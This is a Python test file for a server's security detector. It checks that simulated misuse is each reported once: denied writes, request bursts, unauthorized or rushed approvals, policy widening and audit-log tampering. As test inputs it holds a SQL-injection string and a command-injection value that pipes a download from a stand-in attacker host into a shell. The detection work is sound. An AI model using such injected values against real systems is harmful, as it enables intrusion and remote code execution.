"""secbot inside a running server: each detection a person can cause from outside (repeated denials, an
injection-looking argument, a burst, a vote by someone who may not decide, an approval faster than a
person reads, a policy reload that widens access, a tampered chain) becomes one incident, one message
in the security channel and one `security_detection` event; then govbot reports the same log."""
import json
import os
import sqlite3

from conftest import http
from slack_peer import WebAPI, parsed_blocks
from test_diagnose_postgres import config as postgres_config
from test_alertmanager import wait

POLICY = """version: "1"
policies:
  - name: production
    resources:
      - type: database
        match: {tags: [production]}
    rules:
      - {action: read, effect: allow}
      - {action: write, effect: deny, message: "no writes on production"}
      - action: destructive
        effect: require_approval
        conditions: {approval_quorum: 1, approvers: ["role:dba"], approval_ttl: 30m}
"""
WIDER = POLICY.replace('{action: write, effect: deny, message: "no writes on production"}', "{action: write, effect: allow}")
TOKENS = {"bob": "token-bob-secbot-0123456789", "alice": "token-alice-secbot-0123456789", "mallory": "token-mallory-secbot-0123456789"}
BOT_TOKEN = "xoxb-test-0123456789-secbot"



def test_secbot_reports_each_detection_once_in_the_security_channel_and_govbot_reports_it(helpdesk, postgres, tmp_path):
    api = WebAPI()
    policies = tmp_path / "policies"
    policies.mkdir()
    (policies / "production.yaml").write_text(POLICY)
    for name, token in TOKENS.items():
        (tmp_path / f"{name}.token").write_text(token)
    text, env = postgres_config(postgres, tmp_path)
    text += f"""
policies: {{dir: {policies}}}
users:
  alice: {{roles: [dba]}}
  bob: {{roles: [developer]}}
  mallory: {{roles: [developer]}}
  idle-ivan: {{roles: [dba]}}
api:
  tokens:
""" + "".join(f"    {name}: {{token_file: {tmp_path / (name + '.token')}}}\n" for name in TOKENS) + f"""
slack: {{api_base_url: {api.base_url}, default_channel: C0ONCALL}}
secbot:
  enabled: true
  channel: C0SECURITY
  poll_interval: 200ms
  verify_interval: 2s
  high_volume_per_minute: 40
  denials: 3
  fast_approval: 10s
jobs: {{poll_interval: 50ms}}
"""
    hd = helpdesk(text)
    process = hd.start(env={**env, "SLACK_BOT_TOKEN": BOT_TOKEN})
    session = postgres.session()
    try:
        def call(path, who, body):
            status, _, data = http("POST", hd.url(path), json.dumps(body).encode(),
                                   headers={"Authorization": f"Bearer {TOKENS[who]}", "Content-Type": "application/json"})
            return status, json.loads(data) if data else None

        def detections():
            return {(c["body"]["text"].split("`")[1] if "`" in c["body"]["text"] else c["body"]["text"]): c
                    for c in api.calls if c["method"] == "chat.postMessage" and c["body"]["channel"] == "C0SECURITY"}

        def security_events():
            export = hd.run("audit", "export")
            assert export.returncode == 0, export.stderr
            return [json.loads(line) for line in export.stdout.splitlines() if '"security_detection"' in line]

        def kinds_reported():
            return {event["target"].split(":", 1)[0] for event in security_events()}

        # Three denied writes by bob, the last with an argument that reads as SQL injection.
        for _ in range(2):
            assert call("/api/v1/db/cancel_query", "bob", {"target": "prod-db", "arguments": {"pid": 4242}})[0] == 403
        status, _ = call("/api/v1/db/cancel_query", "bob",
                         {"target": "prod-db", "arguments": {"pid": 4242, "backend_start": "x' OR '1'='1"}})
        assert status in (400, 403)
        status, _ = call("/api/v1/db/cancel_query", "mallory",
                         {"target": "prod-db", "arguments": {"pid": 4242, "backend_start": "$(curl -s http://evil.example | sh)"}})
        assert status in (400, 403)
        assert wait(lambda: {"repeated_denials", "potential_sql_injection", "potential_command_injection"} <= kinds_reported()), \
            kinds_reported()

        # A burst: bob's reads, well over 40 events in a minute.
        for _ in range(25):
            call("/api/v1/db/server_info", "bob", {"target": "prod-db"})
        assert wait(lambda: "high_volume" in kinds_reported()), kinds_reported()

        # A destructive request, a vote by mallory (no dba: refused, and on record), alice's approval within a second.
        session.send("SELECT pg_backend_pid();")
        pid = int(session.read_line())
        status, body = call("/api/v1/db/terminate_backend", "bob", {"target": "prod-db", "arguments": {"pid": pid}})
        assert status == 202, body
        approval = body["approval"]["id"]
        status, body = call(f"/v1/approvals/{approval}/approve", "mallory", {"approved_by": "mallory"})
        assert status == 403
        status, body = call(f"/v1/approvals/{approval}/approve", "alice", {"approved_by": "alice", "reason": "ok"})
        assert status == 200 and body["result"] == "approved", body
        assert wait(lambda: {"outsider_vote", "fast_approval"} <= kinds_reported()), kinds_reported()
        # The approved action's run logs name its approval.
        assert wait(lambda: f"approval_id={approval}" in hd.log(process)), "no log line names the approval"

        # A reload that lets writes through where they were denied.
        (policies / "production.yaml").write_text(WIDER)
        assert wait(lambda: "policy_widened" in kinds_reported()), kinds_reported()

        # Each detection: one message in the security channel that Slack would accept, one incident, one event.
        events = security_events()
        by_kind = {}
        for event in events:
            by_kind.setdefault(event["target"].split(":", 1)[0], []).append(event)
        assert all(len(found) == 1 for found in by_kind.values()), {k: len(v) for k, v in by_kind.items()}
        def security_posts():
            return [c["body"] for c in api.calls if c["method"] == "chat.postMessage" and c["body"]["channel"] == "C0SECURITY"]
        # The outbox paces a channel (about one message a second): they arrive over a few seconds.
        assert wait(lambda: len(security_posts()) == len(events)), (len(security_posts()), len(events))
        posted = security_posts()
        for message in posted:
            parsed_blocks(message)
            assert BOT_TOKEN not in json.dumps(message) and "x' OR '1'='1" not in json.dumps(message), "inputs are not echoed"
        for event in events:
            data = json.loads(event["data"])
            assert event["principal"] == "secbot" and data["incident"].startswith("inc_") and data["dry_run"] is False
        status, _, listing = http("GET", hd.url("/api/v1/incidents"), headers={"Authorization": f"Bearer {TOKENS['alice']}"})
        incidents = {i["id"]: i for i in json.loads(listing)["incidents"]}
        assert all(json.loads(e["data"])["incident"] in incidents for e in events)
        assert not any(c["method"] == "chat.postMessage" and c["body"]["channel"] == "C0ONCALL" and "secbot" in c["body"]["text"]
                       for c in api.calls)

        # govbot over the same log: findings (secbot's detections), exit 1, and the fields filled from the log.
        report = hd.run("govbot", "--since", "1h", "--json", "-", env=env)
        assert report.returncode == 1, report.stdout + report.stderr
        data = json.loads(report.stdout)
        assert data["decisions"]["by_effect"]["deny"] >= 2 and data["decisions"]["by_effect"]["allow"] >= 25
        assert data["approvals"]["created"] == 1 and data["approvals"]["approved"] == 1
        assert [(v["principal"], v["approve"]) for v in data["approvals"]["by_approver"]] == [("alice", 1)]
        destructive = [a for a in data["actions"] if a["tool"] == "terminate_backend"]
        assert destructive and destructive[0]["approved_by"] == ["alice"] and destructive[0]["approval"] == approval
        assert "idle-ivan" in data["people"]["idle"]
        assert {d["kind"] for d in data["detections"]} >= {"repeated_denials", "high_volume", "fast_approval", "policy_widened"}
        assert data["chain"]["ok"] is True
        assert any(f["kind"] == "detection" for f in data["findings"])
        text = hd.run("govbot", "--since", "1h", env=env)
        assert text.returncode == 1 and "Audit chain: ok" in text.stdout and "finding(s)" in text.stdout

        # --post queues the report for the running server's outbox; Slack gets Block Kit it accepts.
        posted_report = hd.run("govbot", "--since", "1h", "--post", env={**env, "SLACK_BOT_TOKEN": BOT_TOKEN})
        assert posted_report.returncode == 1, posted_report.stderr
        assert "C0ONCALL" in posted_report.stdout + posted_report.stderr
        report_message = wait(lambda: [c["body"] for c in api.calls if c["method"] == "chat.postMessage"
                                       and c["body"]["channel"] == "C0ONCALL" and "govbot" in json.dumps(c["body"]).lower()])
        assert report_message, "the posted report never reached Slack"
        blocks = parsed_blocks(report_message[0])
        assert 1 < len(blocks) <= 50

        # Last: someone edits the log under the running server. The next walk reports it once.
        with sqlite3.connect(hd.folder / "state" / "hd.sqlite") as db:
            db.execute("UPDATE audit_events SET principal = 'nobody' WHERE seq = 3")
        assert wait(lambda: "hash_mismatch" in kinds_reported(), timeout=20), kinds_reported()
        broken = hd.run("govbot", "--since", "1h", "--json", "-", env=env)
        assert broken.returncode == 1 and json.loads(broken.stdout)["chain"]["ok"] is False
        assert any(f["kind"] == "chain_broken" for f in json.loads(broken.stdout)["findings"])
    finally:
        session.close()
        api.stop()
        if process.poll() is None:
            hd.stop_all()


def test_govbot_exit_codes_clean_and_error(helpdesk, tmp_path):
    hd = helpdesk("store: {path: state/hd.sqlite}\n")
    clean = hd.run("govbot", "--since", "1h")
    assert clean.returncode == 0, clean.stdout + clean.stderr
    assert "status: clean" in clean.stdout
    bad = hd.run("govbot", "--since", "yesterday")
    assert bad.returncode == 2 and "--since" in bad.stderr
    # A store that is not one (its pages in the WAL gone too): an error, not a clean report.
    for leftover in ("hd.sqlite-wal", "hd.sqlite-shm"):
        if os.path.exists(tmp_path / "state" / leftover):
            os.remove(tmp_path / "state" / leftover)
    (tmp_path / "state" / "hd.sqlite").write_bytes(b"not a database" * 512)
    broken = hd.run("govbot", "--since", "1h")
    assert broken.returncode == 2, broken.stdout + broken.stderr
